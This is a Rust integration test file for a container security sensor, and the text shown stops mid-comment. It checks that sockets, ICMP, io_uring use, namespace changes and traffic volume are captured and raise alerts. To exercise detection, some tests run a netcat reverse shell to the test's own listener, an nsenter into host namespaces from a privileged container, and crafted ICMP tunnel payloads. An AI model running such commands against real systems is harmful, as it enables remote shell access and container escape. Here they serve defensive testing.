//! Kernel capture of sockets, stdio redirection, namespaces, traffic volume and ICMP, each
//! driven by real tools in real containers. Traffic goes only to the test's own containers and to
//! the docker bridge gateway.

use std::{process::Command, thread, time::Duration};

use sensor_tests::{
    Bodies, Containers, HostProgram, Line, Listener, Sensor, Subject, bridge_gateway, container_ip,
    docker, docker_run_rm, endpoint, ev, image, lines, pb, run_rm,
};

/// Whether `e` is a `kind` event of container `cid`.
fn kind_in(e: &pb::Event, kind: &str, cid: &str) -> bool {
    e.kind == kind && e.cid() == cid
}

/// A container's ICMP records of one source, direction and type.
fn icmp_of<'a>(
    evs: impl IntoIterator<Item = &'a pb::Event> + 'a,
    cid: &'a str,
    source: &'a str,
    direction: &'a str,
    type_name: &'a str,
) -> impl Iterator<Item = &'a pb::Icmp> + 'a {
    evs.into_iter()
        .filter(move |e| kind_in(e, "icmp", cid))
        .map(|e| e.icmp())
        .filter(move |i| i.source == source && i.direction == direction && i.type_name == type_name)
}

/// The packets a set of ICMP records counts.
fn packets<'a>(records: impl IntoIterator<Item = &'a pb::Icmp>) -> u64 {
    records.into_iter().map(|i| i.count).sum()
}

fn sock_op<'a>(e: &'a pb::Event, op: &str, cid: &str) -> Option<&'a pb::SocketCall> {
    (kind_in(e, "socket", cid) && e.socket().op == op).then(|| e.socket())
}

#[test]
fn nc_listen_accept_and_connect_between_two_containers() {
    let sensor = Sensor::start("nc_pair");
    let server = sensor.listener(&["sh", "-c", "nc -l -p 8080 > /dev/null"]);
    let (listener, lip) = (&server.id, &server.ip);
    sensor.expect("listen on 8080", |e| {
        sock_op(e, "listen", listener).is_some_and(|s| endpoint(&s.local).port == 8080)
    });
    let client = docker_run_rm(&[&image(), "sh", "-c", &format!("echo hello | nc {lip} 8080")]);

    let connect = sensor.expect("connect from the client", |e| {
        sock_op(e, "connect", &client).is_some()
    });
    let c = connect.socket();
    // The cgroup connect hook sees the kernel's copy of the address; the event is the
    // connect's outcome, with the local port the kernel picked.
    assert_eq!(c.address_source, "kernel", "{c:?}");
    assert_eq!(
        (ev::addr(&c.remote), endpoint(&c.remote).port),
        (lip.as_str(), 8080),
        "{c:?}"
    );
    assert!(c.error.is_empty(), "established: {c:?}");
    let client_ip = ev::addr(&c.local).to_string();
    assert!(
        endpoint(&c.local).port > 0,
        "the kernel picked a local port: {c:?}"
    );

    let accept = sensor.expect("accept in the listener", |e| {
        sock_op(e, "accept", listener).is_some()
    });
    let a = accept.socket();
    assert_eq!(
        ev::addr(&a.remote),
        client_ip,
        "accept sees the client: {a:?}"
    );
    assert_eq!(endpoint(&a.remote).port, endpoint(&c.local).port);
    assert_eq!(endpoint(&a.local).port, 8080);
    assert!(a.error.is_empty(), "{a:?}");
    assert_eq!(accept.process().comm, "nc");
    assert_eq!(connect.process().comm, "nc");
    // TCP state changes are attributed to the socket's container too.
    sensor.expect("ESTABLISHED on the client", |e| {
        kind_in(e, "tcp_state", &client) && e.tcp_state().new_state == "ESTABLISHED"
    });
    // Ordinary networking is no io_uring signal.
    sensor.assert_no_alert("CRS-018", &client, Duration::from_secs(1));
    // (Tests run in parallel: other tests' containers are on the node too.)
    let ours = [client.as_str(), listener.as_str()];
    assert!(
        !sensor
            .events()
            .iter()
            .any(|e| e.kind == "io_uring" && ours.contains(&e.cid())),
        "an io_uring event without io_uring"
    );
}

/// UDP datagrams sent to an address (no connect): reported where the kernel routes them, once
/// per socket and peer however many datagrams follow.
#[test]
fn udp_datagrams_to_an_address_are_reported_once_per_socket_and_peer() {
    let sensor = Sensor::start("udp_send");
    // To the bridge gateway's unused port: nothing needs to listen, and no container of ours
    // holds an address other tests' containers would get next.
    let ip = bridge_gateway();
    let program = HostProgram::new(env!("CARGO_BIN_EXE_udp-send"), "/usr/local/bin/beacon");
    let client = run_rm(&program.args(), &["beacon", &ip, "9999", "5"]);
    let sent = |lines: &[Line]| -> Vec<pb::Event> {
        lines::events(lines)
            .filter(|e| e.kind == "socket" && e.socket().op == "send")
            .filter(|e| e.process().exe == "/usr/local/bin/beacon")
            .cloned()
            .collect()
    };
    assert!(
        sensor.wait_until(Duration::from_secs(10), |evs| !sent(evs).is_empty()),
        "no send event"
    );
    thread::sleep(Duration::from_secs(1));
    let sent = sent(&sensor.lines());
    assert_eq!(sent.len(), 1, "five datagrams, one report: {sent:?}");
    let s = sent[0].socket();
    assert_eq!(
        (ev::addr(&s.remote), endpoint(&s.remote).port),
        (ip.as_str(), 9999),
        "{s:?}"
    );
    assert_eq!(s.r#type, "dgram", "{s:?}");
    assert_eq!(sent[0].cid(), client, "the sender's container");
}

/// A server that outlived an agent restart: its socket entered LISTEN before the sensor ran,
/// and its accepts are reported all the same (the agent seeds the kernel's listener map).
#[test]
fn accepts_on_a_listener_older_than_the_sensor_are_attributed() {
    let server = docker(&[
        "run",
        "-d",
        &image(),
        "sh",
        "-c",
        "mkdir /w && echo ok > /w/i && httpd -f -p 8080 -h /w",
    ]);
    let _cleanup = Containers(vec![server.clone()]);
    let ip = container_ip(&server);
    let listening = || std::net::TcpStream::connect((ip.as_str(), 8080)).is_ok();
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    while !listening() && std::time::Instant::now() < deadline {
        thread::sleep(Duration::from_millis(100));
    }
    assert!(listening(), "httpd listens before the sensor starts");
    let sensor = Sensor::start("old_listener");
    let client = docker_run_rm(&[
        &image(),
        "wget",
        "-q",
        "-O",
        "/dev/null",
        &format!("http://{ip}:8080/i"),
    ]);
    let accept = sensor.expect("accept on the older listener", |e| {
        sock_op(e, "accept", &server).is_some()
    });
    let connect = sensor.expect("the client's connect", |e| {
        sock_op(e, "connect", &client).is_some()
    });
    assert_eq!(accept.process().comm, "httpd", "{accept:?}");
    assert_eq!(endpoint(&accept.socket().local).port, 8080, "{accept:?}");
    assert_eq!(
        ev::addr(&accept.socket().remote),
        ev::addr(&connect.socket().local),
        "the accept names the client: {accept:?}"
    );
}

#[test]
fn ping_size_and_crafted_payloads_are_measured_per_container() {
    let sensor = Sensor::start_with("ping", &["--flow-interval", "1"]);
    let gw = bridge_gateway();
    // Both at once: distinct addresses, so bridge-level records are attributed unambiguously.
    let plain = docker(&["run", "-d", &image(), "ping", "-c", "5", "-s", "600", &gw]);
    let crafted = docker(&["run", "-d", &image(), "ping", "-c", "3", "-p", "41", &gw]);
    let _cleanup = Containers(vec![plain.clone(), crafted.clone()]);
    docker(&["wait", &plain]);
    docker(&["wait", &crafted]);
    let requests = |cid: &str| {
        let cid = cid.to_string();
        move |lines: &[Line]| -> Vec<pb::Icmp> {
            icmp_of(
                lines::events(lines),
                &cid,
                "socket",
                "egress",
                "echo_request",
            )
            .cloned()
            .collect()
        }
    };
    let (plain_req, crafted_req) = (requests(&plain), requests(&crafted));
    assert!(
        sensor.wait_until(Duration::from_secs(20), |evs| packets(&plain_req(evs)) >= 5
            && packets(&crafted_req(evs)) >= 3),
        "ICMP records incomplete: {:?}",
        plain_req(&sensor.lines())
    );
    let evs = sensor.lines();
    let plain_req = plain_req(&evs);
    assert_eq!(packets(&plain_req), 5, "five echo requests: {plain_req:?}");
    for i in &plain_req {
        assert_eq!(ev::addr(&i.peer), gw);
        assert_eq!(i.last_payload_size, 600, "{i:?}");
        assert_eq!(
            i.size_buckets.get(4).copied().unwrap_or(0),
            i.count,
            "513..1024 bucket: {i:?}"
        );
    }
    let crafted_req = crafted_req(&evs);
    assert_eq!(packets(&crafted_req), 3);
    let pattern = |v: &[pb::Icmp]| {
        assert!(
            !v[0].payload_pattern.is_empty(),
            "no payload pattern: {:?}",
            v[0]
        );
        v[0].payload_pattern.clone()
    };
    assert!(
        crafted_req[0].last_sample_hex.contains("4141414141414141"),
        "{:?}",
        crafted_req[0]
    );
    assert!(
        pattern(&crafted_req).ends_with("-41"),
        "{}",
        pattern(&crafted_req)
    );
    assert_ne!(
        pattern(&plain_req),
        pattern(&crafted_req),
        "the crafted payload is distinguishable"
    );
    // On the wire: TC classifiers saw the same requests on the docker bridge (attached from the
    // start), and nothing on the container's veth: a bridge's ports carry no classifier.
    let on_wire = |lines: &[Line]| -> Vec<pb::Icmp> {
        icmp_of(
            lines::events(lines),
            &plain,
            "interface",
            "ingress",
            "echo_request",
        )
        .cloned()
        .collect()
    };
    assert!(
        sensor.wait_until(Duration::from_secs(10), |evs| packets(&on_wire(evs)) >= 5),
        "the bridge's records of the requests: {:?}",
        on_wire(&sensor.lines())
    );
    let evs = sensor.lines();
    let wire = on_wire(&evs);
    assert_eq!(packets(&wire), 5, "{wire:?}");
    assert!(wire.iter().all(|i| i.interface == "docker0"), "{wire:?}");
    assert_eq!(wire[0].last_payload_size, 600);
    assert_eq!(ev::addr(&wire[0].dst), gw);
    // Replies are counted for the pinging container as well.
    assert!(
        lines::events(&evs)
            .filter(|e| kind_in(e, "icmp", &plain))
            .any(|e| e.icmp().type_name == "echo_reply")
    );
}

/// ICMP a container answers with no socket of its own (the kernel's echo replies to pings from
/// the host's network) is seen on the docker bridge, attributed to the container by its
/// address; ICMP between two containers of the bridge, which crosses no classifier (a bridge's
/// ports carry none), is counted by the pinging container's own socket, requests and replies.
#[test]
fn pings_into_a_container_and_between_containers_are_counted() {
    let sensor = Sensor::start_with("ping_into", &["--flow-interval", "1"]);
    let target = docker(&["run", "-d", &image(), "sleep", "60"]);
    let _cleanup = Containers(vec![target.clone()]);
    let ip = container_ip(&target);
    let gw = bridge_gateway();
    let ping = ["ping", "-c", "3", "-i", "0.2", "-s", "300", ip.as_str()];
    run_rm(&["--network", "host"], &ping);
    let pinger = run_rm(&[], &ping);
    // The bridge's records of the host's requests to the target, or of its replies; by their
    // addresses as well, as other tests' containers that held an address before may still be
    // reported under it.
    let wire = |lines: &[Line], direction: &str, type_name: &str| -> Vec<pb::Icmp> {
        let (from, to) = match type_name {
            "echo_request" => (&gw, &ip),
            _ => (&ip, &gw),
        };
        icmp_of(
            lines::events(lines),
            &target,
            "interface",
            direction,
            type_name,
        )
        .filter(|i| ev::addr(&i.src) == *from && ev::addr(&i.dst) == *to)
        .cloned()
        .collect()
    };
    let own = |lines: &[Line], direction: &str, type_name: &str| {
        packets(icmp_of(
            lines::events(lines),
            &pinger,
            "socket",
            direction,
            type_name,
        ))
    };
    assert!(
        // Every count awaited: one interval's records are written one by one.
        sensor.wait_until(Duration::from_secs(20), |evs| {
            packets(&wire(evs, "egress", "echo_request")) >= 3
                && packets(&wire(evs, "ingress", "echo_reply")) >= 3
                && own(evs, "egress", "echo_request") >= 3
                && own(evs, "ingress", "echo_reply") >= 3
        }),
        "ICMP records incomplete: {:?}",
        lines::events(&sensor.lines())
            .filter(|e| e.kind == "icmp")
            .collect::<Vec<_>>()
    );
    let evs = sensor.lines();
    // The host's requests leave through the bridge, the kernel's replies come back through it.
    let requests = wire(&evs, "egress", "echo_request");
    let replies = wire(&evs, "ingress", "echo_reply");
    assert_eq!(packets(&requests), 3, "{requests:?}");
    assert_eq!(packets(&replies), 3, "{replies:?}");
    for i in requests.iter().chain(&replies) {
        assert_eq!(i.interface, "docker0", "{i:?}");
        assert_eq!(i.last_payload_size, 300, "{i:?}");
    }
    assert_eq!(ev::addr(&requests[0].dst), ip);
    assert_eq!(ev::addr(&replies[0].src), ip);
    // Between two containers: the pinger's socket, each way; nothing on the wire (no record
    // of the target's address but the bridge's own exchanges with it).
    assert_eq!(own(&evs, "egress", "echo_request"), 3);
    assert_eq!(own(&evs, "ingress", "echo_reply"), 3);
    let between: Vec<&pb::Icmp> = lines::events(&evs)
        .filter(|e| e.kind == "icmp" && e.icmp().source == "interface")
        .map(|e| e.icmp())
        .filter(|i| {
            let (src, dst) = (ev::addr(&i.src), ev::addr(&i.dst));
            (src == ip || dst == ip) && src != gw && dst != gw
        })
        .collect();
    assert!(
        between.is_empty(),
        "no classifier sits between two containers of a bridge: {between:?}"
    );
}

/// A TCP server and client in two containers that make every socket operation through io_uring
/// requests (`uring-tcp`: IORING_OP_SOCKET, BIND, LISTEN, ACCEPT, RECV / SOCKET, CONNECT, SEND,
/// never the socket syscalls) are reported like their syscall twins, with both container ids
/// and the addresses; the client's socket and connect, run by io_uring's worker threads, say
/// so. Before Linux 6.11 there is no IORING_OP_BIND or LISTEN: there the server binds and listens
/// by syscall and the rest stays io_uring.
#[test]
fn socket_operations_through_io_uring_are_reported_like_syscalls() {
    let sensor = Sensor::start("uring_tcp");
    let bin = env!("CARGO_BIN_EXE_uring-tcp");
    // The same program on the host, over loopback: a host process's ring is not reported.
    let mut host_server = Command::new(bin).args(["server", "17070"]).spawn().unwrap();
    thread::sleep(Duration::from_millis(300));
    let host_client = Command::new(bin)
        .args(["client", "127.0.0.1", "17070"])
        .status();
    assert!(host_client.unwrap().success(), "the host client failed");
    assert!(
        host_server.wait().unwrap().success(),
        "the host server failed"
    );
    let program = HostProgram::new(bin, "/uring-tcp");
    let mounts = program.args();
    let server = sensor.listener_with(&mounts, &["/uring-tcp", "server", "7070"]);
    let (sid, sip) = (&server.id, &server.ip);
    let mut args: Vec<&str> = vec!["run", "-d"];
    args.extend(mounts);
    let image = image();
    args.extend([image.as_str(), "/uring-tcp", "client", sip, "7070"]);
    let client = docker(&args);
    let _cleanup = Containers(vec![client.clone()]);
    assert_eq!(docker(&["wait", &client]).trim(), "0", "the client failed");
    assert_eq!(docker(&["wait", sid]).trim(), "0", "the server failed");

    // The server's requests run inline in its own thread, the client's in io_uring's workers
    // (`IOSQE_ASYNC`): only those are told apart as io_uring's.
    for (cid, what, worker) in [
        (sid.as_str(), "server", false),
        (client.as_str(), "client", true),
    ] {
        let socket = sensor.expect(&format!("the {what}'s socket"), |e| {
            sock_op(e, "socket", cid).is_some_and(|s| s.r#type == "stream")
        });
        assert_eq!(socket.process().exe, "/uring-tcp", "{socket:?}");
        assert_eq!(socket.socket().io_uring, worker, "{socket:?}");
    }
    let bind = sensor.expect("bind", |e| sock_op(e, "bind", sid).is_some());
    assert_eq!(endpoint(&bind.socket().local).port, 7070, "{bind:?}");
    let listen = sensor.expect("listen", |e| sock_op(e, "listen", sid).is_some());
    assert_eq!(endpoint(&listen.socket().local).port, 7070, "{listen:?}");
    let connect = sensor.expect("connect", |e| sock_op(e, "connect", &client).is_some());
    let c = connect.socket();
    assert_eq!(
        (ev::addr(&c.remote), endpoint(&c.remote).port),
        (sip.as_str(), 7070),
        "{c:?}"
    );
    assert!(c.error.is_empty(), "{c:?}");
    assert!(c.io_uring, "the connect ran in an io_uring worker: {c:?}");
    let client_ip = ev::addr(&c.local).to_string();
    let accept = sensor.expect("accept", |e| sock_op(e, "accept", sid).is_some());
    let a = accept.socket();
    assert_eq!(ev::addr(&a.remote), client_ip, "{a:?}");
    assert_eq!(endpoint(&a.remote).port, endpoint(&c.local).port, "{a:?}");
    assert_eq!(endpoint(&a.local).port, 7070, "{a:?}");
    assert_eq!(accept.process().exe, "/uring-tcp", "{accept:?}");

    // Each side's ring is reported once, with the program that set it up, and the choice of
    // io_uring is CRS-018's signal in both containers.
    for (cid, what) in [(sid.as_str(), "server"), (client.as_str(), "client")] {
        let ring = sensor.expect(&format!("the {what}'s io_uring ring"), |e| {
            kind_in(e, "io_uring", cid)
        });
        assert_eq!(ring.io_uring().sq_entries, 8, "{ring:?}");
        assert_eq!(ring.process().exe, "/uring-tcp", "{ring:?}");
        let alert = sensor.expect_alert("CRS-018", cid);
        sensor_tests::assert_alert_fields(&alert, "CRS-018", cid);
    }
    let host_rings: Vec<pb::Event> = sensor
        .events()
        .into_iter()
        .filter(|e| e.kind == "io_uring" && e.cid().is_empty())
        .collect();
    assert!(host_rings.is_empty(), "host rings reported: {host_rings:?}");
}

/// ICMP sent and received only through io_uring (`uring-ping`: IORING_OP_SENDMSG and
/// IORING_OP_RECVMSG on a raw socket) is counted like ping's, from the packets: a tunnel that
/// avoids the send/receive syscalls does not avoid the sensor, and CRS-007 fires on its payload.
#[test]
fn icmp_through_io_uring_is_measured_and_alerts_on_its_payload() {
    let sensor = Sensor::start_with("uring_ping", &["--flow-interval", "1"]);
    let gw = bridge_gateway();
    let bin = env!("CARGO_BIN_EXE_uring-ping");
    let program = HostProgram::new(bin, "/uring-ping");
    let image = image();
    let mut args = vec!["run", "-d"];
    args.extend(program.args());
    args.extend([image.as_str(), "/uring-ping", &gw, "4", "41"]);
    let cid = docker(&args);
    let _cleanup = Containers(vec![cid.clone()]);
    assert_eq!(docker(&["wait", &cid]).trim(), "0", "uring-ping failed");
    let icmp = |direction: &'static str, type_name: &'static str| {
        let cid = cid.clone();
        move |lines: &[Line]| {
            packets(icmp_of(
                lines::events(lines),
                &cid,
                "socket",
                direction,
                type_name,
            ))
        }
    };
    let (requests, replies) = (
        icmp("egress", "echo_request"),
        icmp("ingress", "echo_reply"),
    );
    assert!(
        sensor.wait_until(Duration::from_secs(20), |evs| requests(evs) >= 4
            && replies(evs) >= 4),
        "io_uring ICMP not counted: {} requests, {} replies",
        requests(&sensor.lines()),
        replies(&sensor.lines())
    );
    assert_eq!(requests(&sensor.lines()), 4);
    // The alert's evidence is the ICMP record (not only the raw socket's creation).
    let a = sensor.expect_alert_where("CRS-007 on the io_uring payload", |a| {
        a.rule_id == "CRS-007"
            && a.cid() == cid
            && a.events.first().is_some_and(|e| e.kind == "icmp")
    });
    assert!(a.summary.contains("repeating-byte-41"), "{a:?}");
    let sample = &a.events[0].icmp().last_sample_hex;
    assert!(sample.starts_with("4141414141414141"), "{sample}");
    // A raw ICMP socket driven through io_uring: the same io_uring signal as TCP.
    let alert = sensor.expect_alert("CRS-018", &cid);
    sensor_tests::assert_alert_fields(&alert, "CRS-018", &cid);
}

/// A container that pings and exits while the agent is stopped (SIGSTOP: a stalled or starved
/// agent) is counted all the same: the traffic programs sit on the runtime's parent cgroup, so a
/// new container's cgroup runs them from its creation, without waiting for the agent to attach.
#[test]
fn a_container_that_pings_while_the_agent_is_stalled_is_counted() {
    let sensor = Sensor::start_with("stalled_agent", &["--flow-interval", "1"]);
    let gw = bridge_gateway();
    // A first container makes sure the runtime's parent cgroup exists (a fresh dockerd creates
    // it with its first container) and is watched.
    let first = docker_run_rm(&[&image(), "true"]);
    sensor.expect("the first container's exit", |e| {
        e.kind == "container_exited" && e.cid() == first
    });
    let pid = sensor.pid().to_string();
    let signal = |sig: &str| {
        let status = Command::new("kill").args([sig, &pid]).status().unwrap();
        assert!(status.success(), "kill {sig} {pid}");
    };
    signal("-STOP");
    let cid = docker(&["run", "-d", &image(), "ping", "-c", "2", "-i", "0.2", &gw]);
    let _cleanup = Containers(vec![cid.clone()]);
    let status = docker(&["wait", &cid]);
    signal("-CONT");
    assert_eq!(status.trim(), "0", "ping in the container failed");
    let requests = |lines: &[Line]| {
        packets(icmp_of(
            lines::events(lines),
            &cid,
            "socket",
            "egress",
            "echo_request",
        ))
    };
    assert!(
        sensor.wait_until(Duration::from_secs(20), |evs| requests(evs) >= 2),
        "pings while the agent was stopped: {} counted",
        requests(&sensor.lines())
    );
    assert_eq!(requests(&sensor.lines()), 2);
}

#[test]
fn a_netcat_reverse_shell_shows_socket_stdio_at_exec_and_fork() {
    let sensor = Sensor::start("reverse_shell");
    // The test's own listener, in a container: it sends one command and keeps the line open.
    let listener = sensor.listener(&["sh", "-c", "(echo 'id'; sleep 3) | nc -l -p 9001"]);
    let lip = &listener.ip;
    let shell = docker_run_rm(&[&image(), "nc", lip, "9001", "-e", "/bin/sh"]);

    // busybox nc -e moves the socket onto fd 0 and dups it onto 1; unlike nc 1.10 it leaves
    // stderr alone (see its source), so the shell's stdin and stdout are the socket. No hook
    // sits on dup: the kernel reads the fd table at exec and fork.
    let sh = sensor.expect("the shell's exec", |e| {
        e.cid() == shell && e.kind == "exec" && e.process().exe == "/bin/sh"
    });
    assert_eq!(sh.exec().stdio_socket_fds, [0, 1], "{sh:?}");
    assert_eq!(ev::addr(&sh.exec().stdio_peer), lip);
    // The shell forks to run the listener's `id`: the child inherits the socket stdio.
    let fork = sensor.expect("the shell's fork", |e| {
        kind_in(e, "fork", &shell) && e.fork().stdio_socket_fds == [0, 1]
    });
    let f = fork.fork();
    assert_eq!(
        (ev::addr(&f.stdio_peer), endpoint(&f.stdio_peer).port),
        (lip.as_str(), 9001),
        "{f:?}"
    );
    assert_eq!(fork.process().exe, "/bin/sh", "{fork:?}");
    let id = sensor.expect("id run by the shell", |e| {
        e.cid() == shell && ev::is_exec_of(e, "id")
    });
    assert_eq!(id.exec().stdio_socket_fds, [0, 1]);
}

#[test]
fn nsenter_into_the_host_and_unshare_are_flagged() {
    let sensor = Sensor::start("namespaces");
    // A host process of the test's own, to enter the namespaces of.
    let mut host = Command::new("sleep").arg("30").spawn().unwrap();
    let pid = host.id().to_string();
    let privileged = [
        "--pid",
        "host",
        "--cap-add",
        "ALL",
        "--cap-drop",
        "SYS_RESOURCE",
        "--security-opt",
        "seccomp=unconfined",
        "--security-opt",
        "apparmor=unconfined",
    ];
    let script = format!("nsenter -t {pid} -n -u /bin/true && unshare -n -u /bin/true");
    let image = image();
    let mut args: Vec<&str> = privileged.to_vec();
    args.extend([image.as_str(), "sh", "-c", script.as_str()]);
    let cid = docker_run_rm(&args);
    let _ = host.kill();
    let _ = host.wait();

    let types = |n: &pb::NamespaceChange| -> Vec<String> {
        let mut t = n.types.clone();
        t.sort();
        t
    };
    // A namespace's inode, 0 when absent (as the JSON mapping omits it).
    let net = |ns: &Option<pb::Namespaces>| ns.as_ref().map_or(0, |ns| ns.net);
    // nsenter's, not runc's: runc joins a pre-made network namespace (as with Kubernetes' CNI,
    // and in the VM harness) from inside the container's cgroup. No hook sits on setns: the
    // change is found when nsenter execs /bin/true, attributed to nsenter.
    let setns = sensor.expect("nsenter's change into the host's net and uts", |e| {
        kind_in(e, "namespace_change", &cid)
            && e.namespace_change().op == "changed"
            && e.process().comm == "nsenter"
    });
    let n = setns.namespace_change();
    assert_eq!(types(n), ["net", "uts"], "{n:?}");
    assert!(n.target_is_host, "{n:?}");
    assert_eq!(n.target_type, "net", "{n:?}");
    for ty in ["net", "uts"] {
        assert!(n.after_host_types.iter().any(|t| t == ty), "{n:?}");
    }
    assert_ne!(net(&n.before), net(&n.after), "{n:?}");
    let alert = sensor.expect_alert("CRS-010", &cid);
    assert_eq!(alert.process().comm, "nsenter", "{alert:?}");
    // runc's own namespace changes also run in the container's cgroup; ours is the unshare
    // tool's.
    let unshare = sensor.expect("unshare", |e| {
        kind_in(e, "namespace_change", &cid)
            && e.namespace_change().op == "changed"
            && e.process().comm == "unshare"
    });
    let n = unshare.namespace_change();
    assert_eq!(types(n), ["net", "uts"], "{n:?}");
    assert!(!n.target_is_host, "a new namespace, not the host's: {n:?}");
    assert!(
        !n.after_host_types.iter().any(|t| t == "net"),
        "a new net namespace: {n:?}"
    );
}

/// The TCP bytes container `cid`'s traffic events count in `direction` with `peer`.
fn tcp_bytes(lines: &[Line], cid: &str, direction: &str, peer: &str) -> u64 {
    lines::events(lines)
        .filter(|e| kind_in(e, "traffic", cid))
        .map(|e| e.traffic())
        .filter(|t| {
            t.direction == direction && t.protocol_name == "tcp" && ev::addr(&t.peer) == peer
        })
        .map(|t| t.bytes)
        .sum()
}

/// The (peer port, local port) of each of `cid`'s TCP traffic events: the ports its flows are
/// keyed by.
fn tcp_flow_ports(lines: &[Line], cid: &str) -> Vec<(u32, u32)> {
    lines::events(lines)
        .filter(|e| kind_in(e, "traffic", cid) && e.traffic().protocol_name == "tcp")
        .map(|e| {
            let t = e.traffic();
            (t.peer.as_ref().map_or(0, |p| p.port), t.local_port)
        })
        .collect()
}

/// TCP volume comes from each connection's own counters, read each time its bytes cross a
/// multiple of 256 KiB and at its close: a connection that moves 20 MiB and then stays open is
/// measured while it lasts, whether its data went through syscalls (busybox nc running `head`
/// on the socket) or only through io_uring requests (`uring-tcp`, IORING_OP_SEND and RECV).
#[test]
fn an_open_connection_is_measured_while_it_lasts_through_syscalls_or_io_uring() {
    const SENT: u64 = 20 << 20;
    let sensor = Sensor::start_with("open_volume", &["--flow-interval", "1"]);
    let within = |b: u64| (b as f64 - SENT as f64).abs() / (SENT as f64) <= 0.05;
    // Each pair holds its connection 60 s after the transfer; the check is done well before.
    let measured =
        |what: &str, (sender, sender_ip): (&str, &str), (receiver, receiver_ip): (&str, &str)| {
            let ok = sensor.wait_until(Duration::from_secs(30), |evs| {
                within(tcp_bytes(evs, sender, "egress", receiver_ip))
                    && within(tcp_bytes(evs, receiver, "ingress", sender_ip))
            });
            let evs = sensor.lines();
            assert!(
                ok,
                "{what}: sent {SENT}; measured sender egress {} and receiver ingress {}",
                tcp_bytes(&evs, sender, "egress", receiver_ip),
                tcp_bytes(&evs, receiver, "ingress", sender_ip)
            );
            let exited: Vec<&pb::Event> = lines::events(&evs)
                .filter(|e| e.kind == "container_exited" && [sender, receiver].contains(&e.cid()))
                .collect();
            assert!(
                exited.is_empty(),
                "{what}: the connection closed first: {exited:?}"
            );
        };

    let script = format!("head -c {SENT} /dev/zero; sleep 60");
    let server = sensor.listener(&["nc", "-l", "-p", "8000", "-e", "sh", "-c", &script]);
    let client = docker(&[
        "run",
        "-d",
        &image(),
        "sh",
        "-c",
        &format!("nc {} 8000 > /dev/null", server.ip),
    ]);
    let _cleanup = Containers(vec![client.clone()]);
    let client_ip = container_ip(&client);
    measured("syscalls", (&server.id, &server.ip), (&client, &client_ip));

    let bin = env!("CARGO_BIN_EXE_uring-tcp");
    let program = HostProgram::new(bin, "/uring-tcp");
    let mounts = program.args();
    let server = sensor.listener_with(&mounts, &["/uring-tcp", "server", "7070"]);
    let mut args: Vec<&str> = vec!["run", "-d"];
    args.extend(mounts);
    let image = image();
    let sent = SENT.to_string();
    args.extend([
        image.as_str(),
        "/uring-tcp",
        "client",
        &server.ip,
        "7070",
        &sent,
        "60",
    ]);
    let client = docker(&args);
    let _cleanup = Containers(vec![client.clone()]);
    let client_ip = container_ip(&client);
    measured("io_uring", (&client, &client_ip), (&server.id, &server.ip));
}

#[test]
fn ten_megabytes_between_containers_are_measured_within_5_percent() {
    const SENT: u64 = 10 * 1024 * 1024;
    let sensor = Sensor::start_with("volume", &["--flow-interval", "1"]);
    // busybox httpd serves a 10 MiB file; busybox wget in another container fetches it. (busybox
    // nc stops reading a piped stdin after ~64 KiB, so it cannot carry the transfer.)
    let http = sensor.listener(&[
        "sh",
        "-c",
        "mkdir /www && head -c 10485760 /dev/zero > /www/blob && httpd -f -p 8000 -h /www",
    ]);
    let (server, sip) = (&http.id, &http.ip);
    let client = docker_run_rm(&[
        &image(),
        "sh",
        "-c",
        &format!("wget -q -O - http://{sip}:8000/blob | wc -c"),
    ]);
    let client_ip = {
        let connect = sensor.expect("client connect", |e| {
            sock_op(e, "connect", &client).is_some()
        });
        ev::addr(&connect.socket().local).to_string()
    };
    let within = |b: u64| (b as f64 - SENT as f64).abs() / (SENT as f64) <= 0.05;
    let ok = sensor.wait_until(Duration::from_secs(20), |evs| {
        within(tcp_bytes(evs, server, "egress", &client_ip))
            && within(tcp_bytes(evs, &client, "ingress", sip))
    });
    let evs = sensor.lines();
    assert!(
        ok,
        "sent {SENT}; measured server egress {} and client ingress {}",
        tcp_bytes(&evs, server, "egress", &client_ip),
        tcp_bytes(&evs, &client, "ingress", sip)
    );
    // Keyed by the service port: the server's flows name its own port 8000 (the client's
    // ephemeral port is 0), the client's name the server's.
    let (served, used) = (tcp_flow_ports(&evs, server), tcp_flow_ports(&evs, &client));
    assert!(served.iter().all(|f| *f == (0, 8000)), "{served:?}");
    assert!(used.iter().all(|f| *f == (8000, 0)), "{used:?}");
}

/// A connection keeps the end that serves it after its listener closed: the server accepts
/// one connection, closes its listener, then sends 1 MiB. The kernel says which socket a
/// listener accepted (its backlog, copied into the connection), so the server's flow is still
/// keyed by its own port and the client's by the server's; a lookup of the listener at the
/// close found none and keyed the server's flow by the client's port.
#[test]
fn a_connection_that_outlives_its_listener_is_still_the_servers_flow() {
    const SENT: u64 = 1 << 20;
    let sensor = Sensor::start_with("outlived", &["--flow-interval", "1"]);
    let program = HostProgram::new(env!("CARGO_BIN_EXE_connect-loop"), "/connect-loop");
    let server = sensor.listener_with(
        &program.args(),
        &["/connect-loop", "send-once", "7000", &SENT.to_string()],
    );
    let sip = server.ip.as_str();
    let client = docker_run_rm(&[&image(), "sh", "-c", &format!("nc {sip} 7000 | wc -c")]);
    let client_ip = {
        let connect = sensor.expect("client connect", |e| {
            sock_op(e, "connect", &client).is_some()
        });
        ev::addr(&connect.socket().local).to_string()
    };
    let done = |evs: &[Line]| {
        tcp_bytes(evs, &server.id, "egress", &client_ip) >= SENT
            && tcp_bytes(evs, &client, "ingress", sip) >= SENT
    };
    let ok = sensor.wait_until(Duration::from_secs(20), done);
    let evs = sensor.lines();
    assert!(
        ok,
        "sent {SENT}; measured server egress {} and client ingress {}",
        tcp_bytes(&evs, &server.id, "egress", &client_ip),
        tcp_bytes(&evs, &client, "ingress", sip)
    );
    let (served, used) = (
        tcp_flow_ports(&evs, &server.id),
        tcp_flow_ports(&evs, &client),
    );
    assert!(
        served.iter().all(|f| *f == (0, 7000)),
        "the server's flows are keyed by its own port: {served:?}"
    );
    assert!(
        used.iter().all(|f| *f == (7000, 0)),
        "the client's flows are keyed by the server's port: {used:?}"
    );
}

/// A client that connects to one service 500 times in a burst from one process (a load
/// generator, a connection pool) is a few events, not 500 of each kind: within the repeat
/// window only the first identical operation is reported and the next report carries the
/// count, so `1 + repeats` adds up to every connect, socket, accept and established state on
/// both sides (the burst's last window, which no later report carries, is reported by the
/// agent as a `trailing` event once the window is over). A connect to another port right after
/// the storm is reported as itself.
#[test]
fn a_connect_storm_to_one_service_is_a_few_events_that_count_every_connection() {
    connect_storm_is_counted("repeats", [8000, 8001], &[]);
}

/// The same storm where port numbers cannot tell client from server: the client's kernel
